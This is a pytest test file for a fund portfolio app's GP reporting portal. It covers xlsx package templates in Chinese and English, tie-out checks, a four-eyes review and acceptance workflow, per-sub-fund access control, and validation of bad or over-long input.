"""The GP portal on the spec's example book: a GP reaches only its own sub-funds' portal pages
(every other route answers 403 or 404, the API included); a package uploaded as the portal's
xlsx template is tied out against the book; the workflow draft → submitted → returned →
resubmitted → reviewed → accepted (four eyes); acceptance writes the gp_nav valuation, the
holdings and the new company in one transaction, audited with the package as the source.

The example's figures (spec/example/book): QY-SF1 commits 500,000,000 to SF1 with 25 %;
its ledger has contributions of 150,000,000 (2023-03-31), 150,000,000 (2024-03-31) and
100,000,000 (2025-11-15) and a distribution of 20,000,000 (2025-06-30); the last value is
310,000,000 at 2025-09-30. So for 2025Q4: opening NAV 310,000,000, contributions
100,000,000, opening unfunded 500 − 300 = 200,000,000, closing unfunded 100,000,000.
"""
from __future__ import annotations

import copy
import datetime as dt
import html
import io
import json
import re
import shutil
import threading
from decimal import Decimal

import pytest
from sqlalchemy import select

from models import AuditEntry, Company, GpPackage, GpPackageEvent, GpSubFund, SubFund, SubFundHolding, User, Valuation
from portfolio.book import cache
from portfolio.errors import FieldErrors
from portfolio.formatting import last_quarter_end
from portfolio.gp import packages
from portfolio.gp.template import read_workbook, workbook
from portfolio.interchange.importing import import_book
from tests.conftest import EXAMPLE_BOOK, login, make_user
from tests.races import race, slowed

Q4 = dt.date(2025, 12, 31)


def _valid(first17: str) -> str:
    from portfolio.vocabulary import credit_code_check_char

    return first17 + credit_code_check_char(first17)


NEW_COMPANY = _valid("91330206MA2H3X4Y5")


def clean_content() -> dict:
    """A 2025Q4 package of QY-SF1 that ties out: 310 + 100 − 0 − 5 − 1 + 0 + 16 = 420 (millions);
    holdings 900 + 500 + 280 = 1,680 million × 25 % = 420 million."""
    m = 100_000_000  # one million yuan in fen
    return {
        "account": {"opening_nav": 310 * m, "contributions": 100 * m, "distributions": 0, "management_fees": 5 * m,
                    "other_income_expenses": -1 * m, "realised_gain": 0, "unrealised_gain": 16 * m,
                    "closing_nav": 420 * m, "commitment": 500 * m, "opening_unfunded": 200 * m,
                    "recallable_distributions": 0, "closing_unfunded": 100 * m},
        "holdings": [
            {"name": "甬材新材料有限公司", "credit_code": "913302038H76NFHT0L", "sector": "materials",
             "region_code": "330203", "cost": 300 * m, "fair_value": 900 * m, "method": "last_round"},
            {"name": "深数智能科技有限公司", "credit_code": "91440305HFCLU47L0Y", "sector": "digital",
             "region_code": "440305", "cost": 200 * m, "fair_value": 500 * m, "method": "comparables"},
            {"name": "甬芯半导体有限公司", "credit_code": NEW_COMPANY, "sector": "digital",
             "region_code": "330206", "cost": 250 * m, "fair_value": 280 * m, "method": "last_round"},
        ],
        "notices": [{"date": "2025-11-15", "type": "contribution", "amount": 100 * m, "ref": ""}],
        "narrative": "本季度新增投资一家。", "projection": [{"quarter": "2026Q1", "calls": 50 * m, "distributions": 0}],
    }


@pytest.fixture
def book(db):
    cache.clear()
    assert import_book(db.session, EXAMPLE_BOOK, username="loader").ok
    db.session.add(SubFund(code="SF9", name="另一只子基金", manager="别家资本", size_cny=Decimal(10**9),
                           vintage_year=2024, sector="digital", region_code="330203"))
    db.session.commit()
    gp = packages.invite_gp(db.session, "gp1", "correct-horse-9", ["SF1"], by="test")
    other = packages.invite_gp(db.session, "gp9", "correct-horse-9", ["SF9"], by="test")
    for name in ("manager1", "manager2", "admin1", "viewer1"):
        make_user(db, name, name[:-1])
    return {"gp": gp, "other": other}


@pytest.fixture
def imported(db, book, tmp_path):
    """The example book with SF1's schedule at 2025-12-31 booked by an import: C3 300/900, C4
    200/450, C1 10/10 million (cost/fair value)."""
    folder = tmp_path / "book"
    shutil.copytree(EXAMPLE_BOOK, folder)
    with open(folder / "sub_fund_holdings.csv", "a", encoding="utf-8") as fh:
        fh.write("SF1,2025-12-31,C3,300000000,900000000\nSF1,2025-12-31,C4,200000000,450000000\n"
                 "SF1,2025-12-31,C1,10000000,10000000\n")
    assert import_book(db.session, folder, username="loader").ok
    return book


def _schedule(db) -> dict:
    """SF1's schedule at 2025-12-31 as the book holds it now: company code → (cost, fair value)."""
    db.session.expire_all()
    return {r.company_code: (r.cost_cny, r.fair_value_cny) for r in db.session.execute(
        select(SubFundHolding).where(SubFundHolding.sub_fund_code == "SF1", SubFundHolding.as_of == Q4)).scalars()}


def _portal_upload_form(client) -> dict[str, str]:
    """The upload form's hidden fields as the portal draws them now (the drafts' versions)."""
    return _portal_upload_form_of(client.get("/gp/").get_data(as_text=True))


def _portal_upload_form_of(page: str) -> dict[str, str]:
    form = re.search(r'<form[^>]*id="gp-upload-form"[^>]*>(.*?)</form>', page, re.S).group(1)
    hidden = [attrs for attrs in re.findall(r"<input([^>]*)>", form) if 'type="hidden"' in attrs]
    return {re.search(r'name="([^"]+)"', a).group(1): html.unescape(re.search(r'value="([^"]*)"', a).group(1))
            for a in hidden}


def _upload(client, content: dict, drawn: dict[str, str] | None = None):
    """The workbook uploaded from the portal: drawn now, or the page `drawn` before."""
    data = workbook(content, investment_id="QY-SF1", quarter_end=Q4)
    fields = _portal_upload_form(client) if drawn is None else drawn
    return client.post("/gp/upload", data={**fields, "file": (__import__("io").BytesIO(data), "q4.xlsx")},
                       content_type="multipart/form-data")


def test_the_template_round_trips_exactly(book):
    content = clean_content()
    again, investment, quarter_end = read_workbook(workbook(content, investment_id="QY-SF1", quarter_end=Q4))
    assert (investment, quarter_end) == ("QY-SF1", Q4)
    assert again["account"] == content["account"] and again["holdings"] == content["holdings"]
    assert again["notices"] == content["notices"] and again["projection"] == content["projection"]


def test_an_english_workbook_round_trips_and_either_languages_words_are_read(book):
    """An English reader's template has English sheets, headers and labels, and reads back the
    same; a Chinese book's sector, method or flow type written in English (any case) reads too."""
    from openpyxl import load_workbook

    content = clean_content()
    data = workbook(content, investment_id="QY-SF1", quarter_end=Q4, lang="en")
    sheets = load_workbook(io.BytesIO(data))
    assert sheets.sheetnames == ["General", "Capital account", "Holdings", "Calls and distributions", "Projection"]
    words = {str(c.value) for ws in sheets.worksheets for row in ws.iter_rows() for c in row if c.value}
    assert {"Opening NAV", "Period end", "Cost (CNY)", "Advanced materials", "Contribution"} <= words
    assert not [w for w in words if any("\u4e00" <= ch <= "\u9fff" for ch in w) and w != content["narrative"]
                and w not in {h["name"] for h in content["holdings"]}]
    again, investment, quarter_end = read_workbook(data)
    assert (investment, quarter_end) == ("QY-SF1", Q4)
    assert {k: again[k] for k in ("account", "holdings", "notices", "projection")} == \
        {k: content[k] for k in ("account", "holdings", "notices", "projection")}

    mixed = load_workbook(io.BytesIO(workbook(content, investment_id="QY-SF1", quarter_end=Q4)))
    mixed["投资明细"]["C2"] = "advanced MATERIALS"
    mixed["投资明细"]["G2"] = "Last round"
    mixed["出资与分配"]["B2"] = "contribution"
    out = io.BytesIO()
    mixed.save(out)
    assert read_workbook(out.getvalue())[0]["holdings"] == content["holdings"]


def test_a_workbook_missing_sheets_names_them_in_its_own_language(book):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(workbook(clean_content(), investment_id="QY-SF1", quarter_end=Q4, lang="en")))
    del wb["Holdings"]
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(FieldErrors) as refused:
        read_workbook(out.getvalue())
    assert refused.value.errors[0][1].args["people"] == ["Holdings"]


@pytest.mark.parametrize("lang, sheet", [("zh", "资本账户"), ("en", "Capital account")])
def test_the_portal_gives_the_template_and_a_package_in_the_readers_language(client, db, book, lang, sheet):
    from openpyxl import load_workbook

    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    login(client, "gp1", "correct-horse-9")
    client.get(f"/lang/{lang}")
    for url in ("/gp/template.xlsx?investment=QY-SF1&quarter_end=2025-12-31", f"/gp/packages/{package.id}/xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        again, investment, quarter_end = read_workbook(response.data)
        assert sheet in load_workbook(io.BytesIO(response.data)).sheetnames
        assert (investment, quarter_end) == ("QY-SF1", Q4)
    assert again["account"] == clean_content()["account"]


def test_a_clean_package_passes_every_check(db, book):
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    failing = [c for c in package.checks if c["status"] != "passed"]
    assert failing == [] and package.blocking == 0 and package.warnings == 0


def test_the_whole_workflow_ends_in_the_book(db, client, book):
    login(client, "gp1")
    wrong = clean_content()
    wrong["account"]["closing_nav"] += 2                     # roll-forward off by 0.02
    wrong["holdings"][2]["credit_code"] = NEW_COMPANY[:17] + ("0" if NEW_COMPANY[17] != "0" else "1")
    wrong["notices"][0]["date"] = "2026-01-05"               # outside the quarter
    response = _upload(client, wrong)
    assert response.status_code == 302
    package = db.session.execute(select(GpPackage)).scalar_one()
    status = {c["key"]: c for c in package.checks}
    assert status["rollforward_nav"]["status"] == "blocking" and status["rollforward_nav"]["difference"] == 2
    assert status["credit_codes"]["status"] == "blocking" and status["dates_in_quarter"]["status"] == "blocking"
    page = client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    assert 'data-check="rollforward_nav" data-status="blocking"' in page and "0.02" in page
    assert client.post(f"/gp/packages/{package.id}/submit").status_code == 302
    db.session.expire_all()
    assert db.session.get(GpPackage, package.id).status == "draft"  # blocking checks refuse a submit

    assert _upload(client, clean_content()).status_code == 302
    db.session.expire_all()
    assert db.session.get(GpPackage, package.id).blocking == 0
    client.post(f"/gp/packages/{package.id}/submit")
    db.session.expire_all()
    assert db.session.get(GpPackage, package.id).status == "submitted"

    login(client, "manager1")
    client.post(f"/gp/packages/{package.id}/return", data={"comment": "请补充情况说明"})
    db.session.expire_all()
    assert db.session.get(GpPackage, package.id).status == "returned"
    login(client, "gp1")
    assert "请补充情况说明" in client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    client.post(f"/gp/packages/{package.id}/submit")
    login(client, "manager1")
    client.post(f"/gp/packages/{package.id}/review")
    page = client.post(f"/gp/packages/{package.id}/accept", follow_redirects=True).get_data(as_text=True)
    assert "复核人不能接受自己复核的报告" in page  # four eyes
    login(client, "manager2")
    client.post(f"/gp/packages/{package.id}/accept")
    db.session.expire_all()
    accepted = db.session.get(GpPackage, package.id)
    assert accepted.status == "accepted" and accepted.accepted_by == "manager2"

    valuation = db.session.get(Valuation, accepted.valuation_id)
    assert valuation.fair_value_cny == Decimal("420000000.00") and valuation.method == "gp_nav"
    assert valuation.approved_by == "manager2" and valuation.as_of == Q4
    rows = db.session.execute(select(SubFundHolding).where(SubFundHolding.as_of == Q4)).scalars().all()
    assert sorted(r.fair_value_cny for r in rows) == [Decimal(280_000_000), Decimal(500_000_000),
                                                      Decimal(900_000_000)]
    company = db.session.execute(select(Company).where(Company.credit_code == NEW_COMPANY)).scalar_one()
    assert company.name == "甬芯半导体有限公司"
    assert db.session.execute(select(Company).where(Company.name == "甬材新材料有限公司")).scalars().all().__len__() == 1
    sources = {e.entity for e in db.session.execute(select(AuditEntry).where(
        AuditEntry.batch == f"gp-package-{package.id}")).scalars()}
    assert {"valuations", "companies", "sub_fund_holdings"} <= sources
    # the fund's figures move (spec/example/expected.json had, before: QY-SF1 NAV 410,000,000 — the
    # 2025-09-30 value rolled forward by the 100,000,000 call —, fund NAV 594,000,000, look-through
    # materials 307,500,000 = 410 × 360/480): now QY-SF1 is the accepted 420,000,000, and SF1's
    # look-through follows the new schedule: materials 420 × 900/1,680 = 225,000,000, digital
    # 420 × 780/1,680 = 195,000,000.
    cache.clear()
    report = cache.fund_report(db.session, "QY", Q4)
    held = next(i for i in report["investments"] if i["id"] == "QY-SF1")
    assert Decimal(str(held["nav"])) == Decimal("420000000")
    assert Decimal(str(report["summary"]["nav"])) == Decimal("604000000")
    assert Decimal(str(report["lookthrough_by_sector"]["materials"]["nav"])) == Decimal("225000000")
    assert Decimal(str(report["lookthrough_by_sector"]["digital"]["nav"])) == Decimal("195000000")
    reinvest = next(c for c in report["compliance"] if c["rule"] == "reinvestment_multiple")
    assert reinvest["value"] != 0.75  # 返投 now counts the new local company (330206) and C3's new mark


def test_a_gp_reaches_only_its_own_portal(app, client, book, db):
    login(client, "gp9")
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    ids = {"package_id": package.id, "code": "QY", "inv_id": "QY-SF1", "fund": "QY", "quarter": "2025Q4",
           "user_id": book["gp"].id, "proposal_id": 1, "meeting_id": 1, "flow_id": 1, "valuation_id": 1,
           "attachment_id": 1, "token_id": 1, "job_id": 1, "change_set_id": 1,
           "entity": "investments", "key": "QY-SF1", "filename": "style.css"}
    allowed = {"gp.portal", "gp.template", "gp.new_package", "gp.upload", "gp.package", "gp.edit_package",
               "gp.submit", "gp.package_xlsx", "main.home", "auth.logout", "auth.set_language",
               "auth.change_password", "auth.login", "static"}
    seen = 0
    for rule in app.url_map.iter_rules():
        if rule.endpoint in ("auth.logout", "static"):
            continue
        url = rule.rule
        for name in rule.arguments:
            part = next(p.split(">")[0] for p in url.split("<")[1:] if p.split(">")[0].endswith(name))
            url = url.replace(f"<{part}>", str(ids[name]))
        for method in sorted(rule.methods & {"GET", "POST"}):
            response = client.open(url, method=method, data={})
            seen += 1
            assert response.status_code < 500, (method, url, response.status_code)
            if rule.endpoint not in allowed:
                assert response.status_code in (403, 404), (method, url, response.status_code)
                if url.startswith("/api/"):
                    assert response.is_json
            elif "package_id" in rule.arguments:  # another sub-fund's package: not found
                assert response.status_code == 404, (method, url, response.status_code)
    assert seen > 60
    assert client.get("/").status_code == 302 and client.get("/").headers["Location"].endswith("/gp/")
    assert "QY-SF1" not in client.get("/gp/").get_data(as_text=True)


def test_managers_see_the_overdue_list_and_the_gp_its_requests(client, book):
    today = dt.date.today()
    due = last_quarter_end(today, strictly=True)
    if due + dt.timedelta(days=60) >= today:  # the last quarter's package is not late yet
        due = last_quarter_end(due, strictly=True)
    login(client, "gp1")
    page = client.get("/gp/").get_data(as_text=True)
    assert f'data-request="QY-SF1:{due.isoformat()}"' in page
    assert 'data-request="QY-CO1' not in page  # a co-investment is the fund's, not the GP's to report
    login(client, "manager1")
    page = client.get("/gp/review").get_data(as_text=True)
    assert f'data-overdue="QY-SF1:{due.isoformat()}"' in page  # 60 days after the quarter end have passed
    assert 'id="gp-overdue-home"' in client.get("/").get_data(as_text=True)


@pytest.mark.parametrize("lang, said", [("zh", "不在可选范围内，请从列表中选择"),
                                         ("en", "Not one of the choices offered: choose from the list")])
def test_an_invite_naming_a_sub_fund_not_offered_is_refused_beside_the_field(db, client, book, lang, said):
    """A tampered invite (a sub-fund code not among the form's choices) showed WTForms'
    English "'NOPE' is not a valid choice for this field." even in Chinese; now the app's
    sentence in the reader's language, beside the sub-funds field, and nobody is invited."""
    login(client, "admin1")
    client.get(f"/lang/{lang}")
    page = client.post("/gp/invite", data={"username": "gp_new", "password": "another-horse-7",
                                           "sub_funds": ["SF1", "NOPE"]})
    text = html.unescape(page.get_data(as_text=True))
    assert page.status_code == 200
    assert f'<span class="error" data-field="sub_funds">{said}</span>' in text
    assert "not a valid choice" not in text and "NOPE" not in text.split('id="invite-form"')[1]
    assert db.session.execute(select(User).where(User.username == "gp_new")).scalar() is None


def test_an_admin_invites_a_gp_and_the_command_makes_one(db, client, runner, book):
    login(client, "admin1")
    response = client.post("/gp/invite", data={"username": "gp_new", "password": "another-horse-7",
                                               "sub_funds": ["SF1", "SF9"]})
    assert response.status_code == 302
    user = db.session.execute(select(User).where(User.username == "gp_new")).scalar_one()
    assert user.role == "gp" and packages.sub_funds_of(db.session, user.id) == ["SF1", "SF9"]
    result = runner.invoke(args=["create-user", "gp_cli", "--role", "gp", "--sub-fund", "SF9",
                                 "--password", "third-horse-55"])
    assert result.exit_code == 0, result.output
    cli_user = db.session.execute(select(User).where(User.username == "gp_cli")).scalar_one()
    assert db.session.execute(select(GpSubFund.sub_fund_code).where(GpSubFund.user_id == cli_user.id)).scalar() == "SF9"
    refused = runner.invoke(args=["create-user", "gp_x", "--role", "gp", "--password", "third-horse-55"])
    assert refused.exit_code != 0 and "须用 --sub-fund 指定其报送的子基金" in refused.output, refused.output
    english = runner.invoke(args=["create-user", "gp_x", "--role", "gp", "--password", "third-horse-55"],
                            env={"PORTFOLIO_LANG": "en"})
    assert english.exit_code != 0 and "--sub-fund is required with --role gp" in english.output, english.output
    other = runner.invoke(args=["create-user", "v_x", "--role", "viewer", "--sub-fund", "SF1", "--password",
                                "third-horse-55"])
    assert other.exit_code != 0 and "子基金管理人用户" in other.output
    # a name someone else holds is refused at its field: the viewer stays a viewer, password and all
    viewer = db.session.execute(select(User).where(User.username == "viewer1")).scalar_one()
    hash_before = viewer.password_hash
    page = client.post("/gp/invite", data={"username": "viewer1", "password": "another-horse-7",
                                           "sub_funds": ["SF1"]})
    assert page.status_code == 200 and "用户名 viewer1 已属于一位非管理人用户" in page.get_data(as_text=True)
    db.session.expire_all()
    viewer = db.session.execute(select(User).where(User.username == "viewer1")).scalar_one()
    assert viewer.role == "viewer" and viewer.password_hash == hash_before
    assert packages.sub_funds_of(db.session, viewer.id) == []
    # a GP invited again gets the new password and the further sub-fund
    again = client.post("/gp/invite", data={"username": "gp_new", "password": "fourth-horse-88", "sub_funds": ["SF1"]})
    assert again.status_code == 302


def test_a_gp_cannot_submit_for_another_sub_fund(db, book):
    content = copy.deepcopy(clean_content())
    with pytest.raises(Exception) as refused:
        packages.save_package(db.session, "QY-SF1", Q4, content, username="gp9", allowed=["SF9"])
    assert "没有可报告的投资" in str(refused.value)


def _submitted(db) -> GpPackage:
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    return packages.submit(db.session, package.id, username="gp1", allowed=["SF1"])


def test_returning_needs_comments_and_one_manager_accepts_when_four_eyes_is_off(db, book):
    from portfolio.errors import FieldErrors
    from tests.conftest import settings_in_force

    package = _submitted(db)
    with pytest.raises(FieldErrors, match="退回须写明意见"):
        packages.return_package(db.session, package.id, "  ", username="manager1")
    with pytest.raises(FieldErrors, match="须先由一位基金经理复核"):
        packages.accept(db.session, package.id, username="manager1")
    settings_in_force(db.session, "QY", {"gp_four_eyes": "0"}, username="admin1")
    accepted = packages.accept(db.session, package.id, username="manager1")
    assert accepted.status == "accepted" and accepted.reviewed_by is None
    with pytest.raises(FieldErrors):  # not twice
        packages.accept(db.session, package.id, username="manager2")
    valuations = db.session.execute(select(Valuation).where(Valuation.investment_id == "QY-SF1",
                                                            Valuation.as_of == Q4)).scalars().all()
    assert len(valuations) == 1


def test_a_return_comment_too_long_is_refused_whole_not_cut(db, book):
    """A return's comment over packages.RETURN_COMMENT_MAX_LEN characters is refused beside the
    comment, nothing written (the package stays submitted, no event); one of the limit is kept whole."""
    package = _submitted(db)
    limit = packages.RETURN_COMMENT_MAX_LEN
    with pytest.raises(FieldErrors) as refused:
        packages.return_package(db.session, package.id, "改" * (limit + 1), username="manager1")
    assert [(field, message.key, message.args) for field, message in refused.value.errors] == [
        ("comment", "too_long", {"max_len": limit})]
    assert refused.value.shown("zh") == [("comment", f"不能超过 {limit} 个字符")]
    db.session.rollback()
    assert db.session.get(GpPackage, package.id).status == "submitted"
    assert db.session.execute(select(GpPackageEvent).where(GpPackageEvent.package_id == package.id,
                                                           GpPackageEvent.action == "return")).first() is None
    packages.return_package(db.session, package.id, "改" * limit, username="manager1")
    event = db.session.execute(select(GpPackageEvent).where(GpPackageEvent.package_id == package.id,
                                                            GpPackageEvent.action == "return")).scalar_one()
    assert event.comment == "改" * limit


@pytest.mark.parametrize("typed, said", [("改" * 4001, "不能超过 4000 个字符"),
                                         ("   ", "退回须写明意见")])
def test_a_return_refused_on_the_page_keeps_the_comment_typed_and_says_why_beside_it(db, client, book, typed, said):
    package_id = _submitted(db).id
    login(client, "manager1")
    response = client.post(f"/gp/packages/{package_id}/return", data={"comment": typed})
    assert response.status_code == 200
    page = html.unescape(response.get_data(as_text=True))
    form = page[page.index('id="return-form"'):]
    form = form[:form.index("</form>")]
    assert re.search(r'<span class="error" data-field="comment">[^<]*' + said, form)
    assert re.search(r"<textarea[^>]*>\r?\n?" + re.escape(typed) + "</textarea>", form)
    db.session.expire_all()
    assert db.session.get(GpPackage, package_id).status == "submitted"


def test_two_acceptances_at_once_book_the_package_once(app, db, book):
    """Two managers press 接受 at the same moment (threads released by one barrier, each with
    its own client and session): one valuation and one set of holdings, never two."""
    from tests.test_concurrency import at_once

    package = _submitted(db)
    packages.review(db.session, package.id, username="manager1")
    make_user(db, "manager3", "manager")
    clients = []
    for name in ("manager2", "manager3"):
        c = app.test_client()
        login(c, name)
        clients.append(c)
    package_id = package.id
    db.session.remove()
    responses = at_once(*(lambda c=c: c.post(f"/gp/packages/{package_id}/accept") for c in clients))
    assert all(r.status_code == 302 for r in responses)
    db.session.expire_all()
    valuations = db.session.execute(select(Valuation).where(Valuation.investment_id == "QY-SF1", Valuation.as_of == Q4,
                                                            Valuation.voided_at.is_(None))).scalars().all()
    assert len(valuations) == 1
    rows = db.session.execute(select(SubFundHolding).where(SubFundHolding.as_of == Q4)).scalars().all()
    assert len(rows) == 3
    accepts = db.session.execute(select(AuditEntry).where(AuditEntry.entity == "gp_packages",
                                                          AuditEntry.action == "accept")).scalars().all()
    assert len(accepts) == 1


def test_a_submitted_package_is_a_to_do_for_managers_until_accepted(db, client, book):
    """Issue 15: the home page tells a manager which GP packages wait for review, and after one
    manager's review, which wait for another's acceptance (four eyes)."""
    from portfolio.book.todos import todos
    from web.auth import PERMISSIONS

    def waiting(name: str) -> list[int]:
        return [p.id for p in todos(db.session, name, PERMISSIONS[name.rstrip("0123456789")], dt.date.today())
                .gp_packages]

    package = _submitted(db)
    assert waiting("manager1") == waiting("manager2") == [package.id]
    assert waiting("viewer1") == []
    login(client, "manager2")
    assert f'data-package="{package.id}"' in client.get("/").get_data(as_text=True)
    packages.review(db.session, package.id, username="manager1")
    assert waiting("manager1") == [] and waiting("manager2") == [package.id]  # the second pair of eyes
    packages.accept(db.session, package.id, username="manager2")
    assert waiting("manager1") == waiting("manager2") == []
    assert f'data-package="{package.id}"' not in client.get("/").get_data(as_text=True)


def _flashes(page: str) -> list[str]:
    import html
    import re

    return [html.unescape(m) for m in re.findall(r'<div class="flash error">(.*?)</div>', page)]


def _bad_workbook() -> bytes:
    """The template of a clean package with four cells spoilt: an amount that is not one, a
    negative cost, a date in another format and a type that is neither."""
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(workbook(clean_content(), investment_id="QY-SF1", quarter_end=Q4)))
    wb["资本账户"]["B2"] = "abc"
    wb["投资明细"]["E2"] = "-5"
    wb["出资与分配"]["A2"] = "2025/11/15"
    wb["出资与分配"]["B2"] = "call"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_spoilt_workbook_is_refused_cell_by_cell_in_the_readers_language(client, book, lang):
    import io
    import re

    login(client, "gp1")
    client.get(f"/lang/{lang}")
    response = client.post("/gp/upload", data={"file": (io.BytesIO(_bad_workbook()), "q4.xlsx")},
                           content_type="multipart/form-data", follow_redirects=True)
    shown = _flashes(response.get_data(as_text=True))
    if lang == "zh":  # the Chinese as it always was
        assert shown == ["资本账户 第 2 行 金额（元）：应为金额（元），如 1,234,567.89",
                         "投资明细 第 2 行 投资成本（元）：不能为负数",
                         "出资与分配 第 2 行 日期：日期格式应为 YYYY-MM-DD：2025/11/15",
                         "出资与分配 第 2 行 类型：应为 出资 或 分配"]
    else:
        assert shown == ["Capital account, row 2, Amount (in CNY): must be an amount (in CNY), e.g. 1,234,567.89",
                         "Holdings, row 2, Cost (in CNY): cannot be negative",
                         "Calls and distributions, row 2, Date: the date must be written YYYY-MM-DD: 2025/11/15",
                         "Calls and distributions, row 2, Type: must be a contribution or a distribution"]
        assert not any(re.search(r"[\u3000-\u303f\u4e00-\u9fff\uff00-\uffef]", m) for m in shown)
    assert not packages.packages_of(__import__("web.extensions", fromlist=["db"]).db.session, ["SF1"])


def test_the_portal_form_refuses_in_english_too(client, book):
    login(client, "gp1")
    client.get("/lang/en")
    page = client.post("/gp/packages/new", data={"investment_id": "QY-SF1", "quarter_end": "2025-12-31",
                                                  "unit": "wan", "acc-opening_nav": "1.0000001",
                                                  "h-0-name": "", "h-0-cost": "3"}).get_data(as_text=True)
    assert "Capital account, Opening NAV: in CNY 10k, at most six decimal places (exact to the fen)" in page
    assert "Holdings, row 1, Company name: required" in page


def test_the_package_page_in_english_has_no_chinese_punctuation_of_its_own(db, client, book):
    import re

    login(client, "gp1")
    client.get("/lang/en")
    assert _upload(client, clean_content()).status_code == 302
    package = db.session.execute(select(GpPackage)).scalar_one()
    page = client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    h1 = re.search(r"<h1>(.*?)</h1>", page).group(1)
    assert h1 == f"GP quarterly package #{package.id}: QY-SF1 · 2025Q4", h1
    status = re.search(r'<p id="package-status"[^>]*>(.*?)</p>', page, re.S).group(1)
    assert "Status: " in status and "：" not in status
    portal = client.get("/gp/").get_data(as_text=True)
    assert "<td>QY-SF1 (QY)</td>" in portal  # (a sub-fund's own name keeps its own brackets: data)


def test_a_valuation_replaced_by_an_accepted_package_says_so_in_the_readers_language(app, db, book):
    """The valuation a package replaces is voided with the reason by key: 由管理人季度报告 #N取代 in
    Chinese, 'Replaced by GP quarterly package #N' in English, on the investment's page."""
    old = Valuation(investment_id="QY-SF1", as_of=Q4, fair_value_cny=Decimal("1000000"), method="gp_nav",
                    entered_by="manager1", approved_by="manager2", approved_at=dt.datetime(2026, 1, 5))
    db.session.add(old)
    db.session.commit()
    package = _submitted(db)
    packages.review(db.session, package.id, username="manager1")
    packages.accept(db.session, package.id, username="manager2")
    db.session.refresh(old)
    assert old.voided_at is not None and old.void_reason == f"由管理人季度报告 #{package.id}取代"
    client = app.test_client()
    login(client, "viewer1")
    page = client.get("/investments/QY-SF1").get_data(as_text=True)
    assert f"由管理人季度报告 #{package.id}取代" in page
    client.get("/lang/en")
    page = client.get("/investments/QY-SF1").get_data(as_text=True)
    assert f"Replaced by GP quarterly package #{package.id}" in page and "取代" not in page


def test_a_void_and_a_correction_waiting_of_the_valuation_a_package_replaces_are_taken_off(db, book):
    """Accepting a package voids the valuation of its date in force: a void of that valuation
    asked for and a correction of it waiting are moot and go with it, each declined by the
    accepter with a reason that says why, in the acceptance's batch (the void's asker's reason
    not left as the void's)."""
    from portfolio.book import corrections, records

    old = Valuation(investment_id="QY-SF1", as_of=Q4, fair_value_cny=Decimal("1000000"), method="gp_nav",
                    entered_by="manager1", approved_by="manager2", approved_at=dt.datetime(2026, 1, 5))
    db.session.add(old)
    db.session.commit()
    key = str(old.id)
    corrections.correct_valuation(db.session, old.id, {
        "as_of": Q4.isoformat(), "fair_value_cny": "999000", "method": "gp_nav",
        "version": corrections.version_of(old), "correction_reason": "审计调整"}, username="manager1")
    make_user(db, "manager3", "manager")
    records.void_valuation(db.session, old.id, {"reason": "重复录入"}, username="manager3")
    package = _submitted(db)
    packages.review(db.session, package.id, username="manager1")
    packages.accept(db.session, package.id, username="manager2")
    db.session.expire_all()
    voided = db.session.get(Valuation, old.id)
    assert voided.voided_at is not None and voided.voided_by == "manager2"
    assert (voided.void_requested_by, voided.void_requested_at) == (None, None)
    assert voided.void_reason == f"由管理人季度报告 #{package.id}取代"
    assert corrections.pending_correction(db.session, key, "valuations") is None
    entries = db.session.execute(select(AuditEntry).where(
        AuditEntry.entity == "valuations", AuditEntry.entity_key == key,
        AuditEntry.batch == f"gp-package-{package.id}").order_by(AuditEntry.id)).scalars().all()
    assert [(e.action, e.username) for e in entries] == [("reject_void", "manager2"), ("void", "manager2"),
                                                         ("reject_correction", "manager2")]
    declined_void, void, declined = entries
    assert declined_void.reason_said == {"key": "why_void_withdrawn_replaced", "args": {"id": package.id}}
    assert declined_void.before["void_requested_by"] == "manager3"
    assert void.reason_said["key"] == "why_replaced_by_gp_package"
    assert declined.reason_said == {"key": "why_correction_withdrawn_voided", "args": {"record": "valuation"}}
    assert declined.before["asked_by"] == "manager1"


def test_control_characters_never_reach_a_packages_workbook(book):
    """Typed or pasted into the portal's form, or in a package stored before: the package's
    workbook is still written (a workbook cannot hold them), the text without them."""
    from portfolio.gp.template import read_form

    content = clean_content()
    content["holdings"][0]["name"] = "坏\x01名\x0b"
    content["narrative"] = "季度\x07说明"
    again, _investment, _quarter_end = read_workbook(workbook(content, investment_id="QY-SF1", quarter_end=Q4))
    assert again["holdings"][0]["name"] == "坏名" and again["narrative"] == "季度说明"
    typed = read_form({"narrative": "说明\x00", "h-0-name": "企业\x1f", "h-0-cost": "1", "h-0-fair_value": "1"})
    assert typed["narrative"] == "说明" and typed["holdings"][0]["name"] == "企业"


def test_a_name_or_notice_number_longer_than_the_book_holds_is_refused_not_cut(book):
    """A company's name past 200 characters, a notice number past 64: refused at its cell
    (it had been cut silently to fit), from the workbook and from the portal's form."""
    from portfolio.errors import FieldErrors
    from portfolio.gp.template import read_form

    content = clean_content()
    content["holdings"][0]["name"] = "甬" * 201
    content["notices"][0]["ref"] = "N" * 65
    with pytest.raises(FieldErrors) as refused:
        read_workbook(workbook(content, investment_id="QY-SF1", quarter_end=Q4))
    shown = [str(m) for _f, m in refused.value.errors]
    assert shown == ["投资明细 第 2 行 企业名称：不能超过 200 个字符", "出资与分配 第 2 行 通知书编号：不能超过 64 个字符"]
    with pytest.raises(FieldErrors) as typed:
        read_form({"h-0-name": "甬" * 201, "h-0-cost": "1", "h-0-fair_value": "1"})
    assert [str(m) for _f, m in typed.value.errors] == ["投资明细 第 1 行 企业名称：不能超过 200 个字符"]
    content["holdings"][0]["name"] = "甬" * 200  # exactly the width: kept whole
    content["notices"][0]["ref"] = "N" * 64
    again, _investment, _quarter_end = read_workbook(workbook(content, investment_id="QY-SF1", quarter_end=Q4))
